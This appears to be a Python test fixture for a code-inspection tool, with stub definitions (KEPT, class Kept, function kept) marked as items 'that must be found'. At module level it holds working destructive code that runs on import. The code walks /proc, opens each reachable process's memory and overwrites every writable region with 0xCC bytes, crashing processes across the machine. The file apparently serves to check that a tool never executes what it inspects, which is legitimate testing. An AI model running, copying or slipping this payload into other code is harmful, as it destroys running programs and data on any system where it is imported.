"""Overwrites every writable part of the interpreter's own memory, and of whatever else it may."""

import os

KEPT = 7


class Kept:
    """A class that must be found."""

    def method(self, value: int = 1) -> str:
        """Do nothing."""


def kept(value: int = 1, *rest: str) -> str:
    """Do nothing."""

pids = sorted((int(name) for name in os.listdir("/proc") if name.isdigit()), key=lambda pid: pid == os.getpid())
for pid in pids:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for line in maps.readlines():
                span, rights = line.split()[:2]
                if "w" in rights:
                    start, end = (int(part, 16) for part in span.split("-"))
                    memory.seek(start)
                    memory.write(b"\xcc" * min(end - start, 1 << 20))
    except OSError:
        pass
